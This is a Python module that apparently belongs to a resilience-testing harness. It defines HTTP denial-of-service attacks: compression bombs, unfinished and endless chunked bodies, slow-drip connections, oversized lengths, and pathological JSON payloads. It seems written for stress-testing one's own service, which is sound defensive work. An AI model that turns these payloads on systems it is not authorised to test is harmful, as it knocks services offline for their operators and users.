"""Request bodies that cost more than they should, or never end."""

from __future__ import annotations

import struct
import zlib
from contextlib import ExitStack
from functools import cache
from itertools import cycle

from .base import Attack, Turn


class GzipBombs(Attack):
    name = "gzip-bombs"
    about = "bodies of 256 KiB that unpack to 256 MiB, as gzip and as deflate"

    def strike(self, turn: Turn) -> None:
        bombs = cycle(packed_zeros().items())
        for _ in turn.times(1.0 * self.target.rate):
            encoding, bomb = next(bombs)
            self.exchange(self.target.post(f"Content-Encoding: {encoding}", f"Content-Length: {len(bomb)}") + bomb)


@cache
def packed_zeros(megabytes: int = 256) -> dict[str, bytes]:
    """Zeros as they are sent, by encoding. Put together from equal blocks, since to pack them all takes seconds."""
    packer, zeros = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(1 << 20)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    data, crc, adler = block * megabytes + packer.flush(zlib.Z_FINISH), 0, 1
    for _ in range(megabytes):
        crc, adler = zlib.crc32(zeros, crc), zlib.adler32(zeros, adler)
    gzip_head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    return {
        "gzip": gzip_head + data + struct.pack("<II", crc, megabytes << 20),
        "deflate": b"\x78\xda" + data + struct.pack(">I", adler),
    }


class UnfinishedBodies(Attack):
    name = "unfinished-bodies"
    about = "200 connections that send a body of 1 MiB except its last bytes, and wait"

    def strike(self, turn: Turn) -> None:
        data = self.target.post("Content-Length: 1048576") + b'{"metadata":"' + b"x" * 1048000
        with ExitStack() as stack:
            for _ in turn.times(40 * self.target.rate, limit=200):
                if sock := self.open(stack):
                    self.send(sock, data)
            turn.rest()


class EndlessChunks(Attack):
    name = "endless-chunks"
    about = "4 connections with chunked bodies that never end, 1 MB/s each"

    def strike(self, turn: Turn) -> None:
        head, chunk = self.target.post("Transfer-Encoding: chunked"), b"4000\r\n" + b"x" * 0x4000 + b"\r\n"
        with ExitStack() as stack:
            socks = [self._begin(stack, head) for _ in range(4)]
            for number in turn.times(4 * 64 * self.target.rate):
                sock = socks[number % 4]
                if sock is None or not self.send(sock, chunk):
                    socks[number % 4] = self._begin(stack, head)

    def _begin(self, stack: ExitStack, head: bytes):  # type: ignore[no-untyped-def]
        sock = self.open(stack)
        return sock if sock is not None and self.send(sock, head) else None


class SlowDrips(Attack):
    name = "slow-drips"
    about = "50 connections that send a byte of their body, or of their headers, every half second"

    def strike(self, turn: Turn) -> None:
        heads = (self.target.post("Content-Length: 1000"), self.target.head("GET /livez")[:-2] + b"X-Slow: ")
        with ExitStack() as stack:
            socks = [sock for number in turn.times(100, limit=50) if (sock := self._begin(stack, heads[number % 2]))]
            for _ in turn.times(2):
                socks = [sock for sock in socks if self.send(sock, b"x")]

    def _begin(self, stack: ExitStack, head: bytes):  # type: ignore[no-untyped-def]
        sock = self.open(stack)
        return sock if sock is not None and self.send(sock, head) else None


class TooLarge(Attack):
    name = "too-large"
    about = "bodies with a declared length of 10 GB, or complete bodies of 4 MB"

    def strike(self, turn: Turn) -> None:
        piece = b"x" * (4 << 20)
        for number in turn.times(5 * self.target.rate):
            length = (10_000_000_000, len(piece))[number % 2]
            self.exchange(self.target.post(f"Content-Length: {length}") + piece, 2)


class DeepJson(Attack):
    name = "deep-json"
    about = "JSON of 900 kB: 450,000 levels deep, one number of 900,000 digits, 60,000 keys"

    def strike(self, turn: Turn) -> None:
        keys = ",".join(f'"k{number}":0' for number in range(60_000))
        bodies = cycle(
            ["[" * 450_000, "1" * 900_000, "1e" + "9" * 400_000, "{" + keys + "}", '"' + "\\ud800" * 150_000 + '"']
        )
        for _ in turn.times(4 * self.target.rate):
            # Never right: the worker without a token must not start a session for it.
            body = f'{{"metadata":{next(bodies)},"nonsense":1}}'.encode()
            self.exchange(self.target.post(f"Content-Length: {len(body)}") + body)
